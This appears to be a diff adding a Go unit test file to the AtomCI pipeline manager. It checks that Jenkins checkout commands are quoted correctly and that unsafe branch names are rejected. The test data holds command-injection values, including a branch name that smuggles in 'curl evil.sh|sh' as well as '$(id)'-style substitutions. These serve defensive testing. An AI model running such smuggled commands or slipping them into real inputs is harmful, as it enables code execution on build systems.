@@ -0,0 +1,91 @@
+/*
+Copyright 2021 The AtomCI Group Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+	http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package pipelinemgr
+
+import (
+	"os/exec"
+	"testing"
+
+	"github.com/go-atomci/atomci/internal/models"
+)
+
+func checkoutApp(branch, path string) *RunBuildAllParms {
+	return &RunBuildAllParms{
+		RunBuildAppReq: &RunBuildAppReq{Branch: branch},
+		ScmApp:         &models.ScmApp{Name: "demo", Path: path, RepoID: 1},
+	}
+}
+
+func TestRenderAppCheckoutItems(t *testing.T) {
+	pm := &PipelineManager{}
+	ciConfig := &JenkinsCI{Workspace: "/workspace"}
+	apps := []*RunBuildAllParms{checkoutApp("feature/login", "https://git.example.com/group/demo's.git")}
+
+	items, err := pm.renderAppCheckoutItemsForBuild(1, 2, apps, ciConfig, models.CompileEnvShellSh)
+	if err != nil || len(items) != 1 {
+		t.Fatalf("render checkout items = %v, %v", items, err)
+	}
+	want := `sh 'set +x; rm -rf \'/workspace/1/2/demo/feature/login\'; git clone --depth 1 -b \'feature/login\' https://"${SCM_CREDENTIAL_1}"@\'git.example.com/group/demo\'\\\'\'s.git\' \'/workspace/1/2/demo/feature/login\'; cd \'/workspace/1/2/demo/feature/login\'; git log -1 --oneline'`
+	if items[0].Command != want {
+		t.Errorf("checkout command = %v, want %v", items[0].Command, want)
+	}
+
+	items, err = pm.renderAppCheckoutItemsForBuild(1, 2, apps, ciConfig, models.CompileEnvShellPowershell)
+	if err != nil || len(items) != 1 {
+		t.Fatalf("render checkout items = %v, %v", items, err)
+	}
+	want = `powershell 'if (Test-Path \'/workspace/1/2/demo/feature/login\') { Remove-Item -Recurse -Force \'/workspace/1/2/demo/feature/login\' }; git clone --depth 1 -b \'feature/login\' (\'https://\' + $env:SCM_CREDENTIAL_1 + \'@git.example.com/group/demo\'\'s.git\') \'/workspace/1/2/demo/feature/login\'; cd \'/workspace/1/2/demo/feature/login\'; git log -1 --oneline'`
+	if items[0].Command != want {
+		t.Errorf("windows checkout command = %v, want %v", items[0].Command, want)
+	}
+
+	for _, branch := range []string{"master;curl evil.sh|sh", "$(id)", "-b", "a..b", "a b", "feature/.hidden", "main.lock", "release/"} {
+		if _, err := pm.renderAppCheckoutItemsForBuild(1, 2, []*RunBuildAllParms{checkoutApp(branch, "https://git.example.com/demo.git")}, ciConfig, models.CompileEnvShellSh); err == nil {
+			t.Errorf("the invalid branch %q should be rejected", branch)
+		}
+	}
+}
+
+func TestValidBranchName(t *testing.T) {
+	for branch, want := range map[string]bool{
+		"master":           true,
+		"release/v1.2.0":   true,
+		"feature/JIRA-123": true,
+		"fix_login@2":      true,
+		"":                 false,
+		"@":                false,
+		"a@{1}":            false,
+		"a//b":             false,
+		"a:b":              false,
+		"a`id`":            false,
+		"a'b":              false,
+		"a\tb":             false,
+	} {
+		if got := validBranchName(branch); got != want {
+			t.Errorf("validBranchName(%q) = %v, want %v", branch, got, want)
+		}
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	for _, arg := range []string{"plain", "it's", "$(id) `id` ${HOME}", "a;b|c&d", `back\slash "quote"`} {
+		output, err := exec.Command("sh", "-c", "printf %s "+shellQuote(arg)).Output()
+		if err != nil || string(output) != arg {
+			t.Errorf("sh printf %v = %q, %v", shellQuote(arg), output, err)
+		}
+	}
+}